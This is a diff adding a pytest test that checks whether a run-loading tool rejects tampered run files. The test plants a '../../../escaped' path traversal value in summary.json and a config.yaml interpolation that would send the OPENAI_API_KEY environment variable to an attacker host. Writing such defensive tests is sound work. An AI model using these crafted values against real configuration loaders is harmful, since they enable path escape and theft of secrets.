@@ -165,6 +165,23 @@ def test_bad_runs_are_named(store: ActivationStore, sweep: Path, tmp_path: Path)
         run.check(store)
 
 
+def test_files_of_others_lead_nowhere(
+    store: ActivationStore, sweep: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Neither out of the folder that is written to, nor to the environment's secrets."""
+    foreign = Path(shutil.copytree(sweep / "sae", tmp_path / "sae"))
+    summary = json.loads((foreign / "summary.json").read_text())
+    (foreign / "summary.json").write_text(json.dumps({**summary, "hookpoint": "../../../escaped"}))
+    with pytest.raises(UserError, match=r"names the hookpoint '../../../escaped', but its coder 'layers.1.mlp'"):
+        Run.open(foreign).check(store)
+    monkeypatch.setenv("OPENAI_API_KEY", "secret")
+    config = (foreign / "config.yaml").read_text()
+    assert str(store.path) in config
+    (foreign / "config.yaml").write_text(config.replace(str(store.path), "s3://${oc.env:OPENAI_API_KEY}.attacker/x"))
+    with pytest.raises(UserError, match=r"config.yaml refers to other values by \$\{...\}"):
+        Run.open(foreign)
+
+
 def test_report_is_one_self_contained_page(rows: dict[str, dict[str, Any]], sweep: Path) -> None:
     page = (sweep / "report.html").read_text()
     assert page.count("<svg") == 5 and page.count("<tr>") == 6
